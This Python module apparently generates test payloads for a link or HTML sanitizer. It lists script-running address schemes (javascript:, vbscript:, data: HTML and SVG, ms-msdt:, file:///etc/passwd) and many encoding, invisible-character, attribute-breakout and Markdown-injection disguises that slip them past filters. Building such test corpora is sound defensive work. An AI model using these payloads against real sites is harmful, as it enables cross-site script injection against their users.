"""Payloads that are addresses: schemes that run or embed something, under every disguise that a browser or a decoder sees through."""

from __future__ import annotations

from collections.abc import Callable

from .model import CALL, Payload

SCHEMES = (
    f"javascript:{CALL}",
    f"vbscript:{CALL}",
    f"data:text/html,<script>{CALL}</script>",
    "data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==",
    f"data:image/svg+xml,<svg xmlns='http://www.w3.org/2000/svg' onload='{CALL}'/>",
    f"data:application/xhtml+xml,<x:script xmlns:x='http://www.w3.org/1999/xhtml'>{CALL}</x:script>",
    "file:///etc/passwd",
    "blob:https://site.example/9115d58c",
    "filesystem:https://site.example/x.html",
    f"view-source:javascript:{CALL}",
    f"feed:javascript:{CALL}",
    f"jar:javascript:{CALL}!/x",
    f"livescript:{CALL}",
    f"mocha:{CALL}",
    "ms-msdt:/id",
    "search-ms:query=x",
    "intent://x#Intent;scheme=javascript;end",
    "steam://run/1",
    "about:blank",
    "chrome://settings",
)


def _first(text: str, mark: str) -> str:
    return text[:4] + mark + text[4:]


#: Each takes an address apart or dresses it up; what it gives is the value of the attribute, entities already read.
DISGUISES: tuple[tuple[str, Callable[[str], str]], ...] = (
    ("plain", lambda url: url),
    ("mixed case", lambda url: "".join(c.upper() if n % 2 else c for n, c in enumerate(url[:11])) + url[11:]),
    ("tab inside", lambda url: _first(url, "\t")),
    ("line feed inside", lambda url: _first(url, "\n")),
    ("carriage return inside", lambda url: _first(url, "\r\n")),
    ("tab before the colon", lambda url: url.replace(":", "\t:", 1)),
    ("spaces before", lambda url: f"  \n {url}"),
    ("controls before", lambda url: f"\x01\x0c\x1f{url}"),
    ("vertical tab before", lambda url: f"\x0b{url}"),
    ("delete before", lambda url: f"\x7f{url}"),
    ("null inside", lambda url: _first(url, "\x00")),
    ("no-break space before", lambda url: f"\xa0{url}"),
    ("ideographic space before", lambda url: f"\u3000{url}"),
    ("line separator before", lambda url: f"\u2028{url}"),
    ("byte order mark before", lambda url: f"\ufeff{url}"),
    ("zero-width space inside", lambda url: _first(url, "\u200b")),
    ("soft hyphen inside", lambda url: _first(url, "\xad")),
    ("right-to-left override", lambda url: f"\u202e{url}"),
    ("tag characters inside", lambda url: _first(url, "\U000e0041")),
    ("variation selector inside", lambda url: _first(url, "\ufe0f")),
    ("percent", lambda url: f"%{ord(url[0]):02x}{url[1:]}"),
    ("percent, twice", lambda url: f"%25{ord(url[0]):02x}{url[1:]}"),
    ("percent colon", lambda url: url.replace(":", "%3A", 1)),
    ("percent line feed", lambda url: _first(url, "%0A")),
    ("entity", lambda url: f"&#{ord(url[0])};{url[1:]}"),
    ("entity, no semicolon", lambda url: f"&#0000{ord(url[0])}{url[1:]}"),
    ("hexadecimal entity", lambda url: f"&#x{ord(url[0]):x};{url[1:]}"),
    ("named entities", lambda url: _first(url, "&Tab;").replace(":", "&colon;", 1)),
    ("entity line feed", lambda url: _first(url, "&NewLine;")),
    ("entity, twice", lambda url: f"&amp;#{ord(url[0])};{url[1:]}"),
    ("fullwidth", lambda url: "".join(chr(ord(c) + 0xFEE0) for c in url[:6]) + url[6:]),
    ("fullwidth colon", lambda url: url.replace(":", "\uff1a", 1)),
    ("long s", lambda url: url.replace("s", "\u017f", 1)),
    ("backslash", lambda url: "\\" + url),
    ("backslash inside", lambda url: _first(url, "\\")),
    ("quote before", lambda url: f'"{url}'),
    ("angle bracket before", lambda url: f"<{url}>"),
    ("backtick", lambda url: f"`{url}`"),
    ("web address behind", lambda url: url + "//https://site.example/"),
    ("comment", lambda url: url.replace(":", "://site.example/%0a", 1)),
    ("url()", lambda url: f"url({url})"),
    ("scheme twice", lambda url: f"https:{url}"),
    ("out of the attribute", lambda url: f'https://site.example/" onmouseover="{CALL}" href="{url}'),
    ("out of Markdown", lambda url: f"https://site.example/a) [x]({url}"),
    ("out of Markdown's brackets", lambda url: f"https://site.example/a> [x]({url})"),
    ("Markdown's title", lambda url: f'https://site.example/a "x")[x]({url})'),
    ("Markdown's definition", lambda url: f"https://site.example/a\n[x]: {url}"),
    ("Markdown's autolink", lambda url: f"https://site.example/<{url}>"),
)  # fmt: skip


def address_payloads() -> list[Payload]:
    """Every scheme plain, and the ones that run under every disguise."""
    plain = [Payload("plain", url) for url in SCHEMES]
    return plain + [
        Payload(name, disguise(url)) for name, disguise in DISGUISES[1:] for url in SCHEMES[:3]
    ]
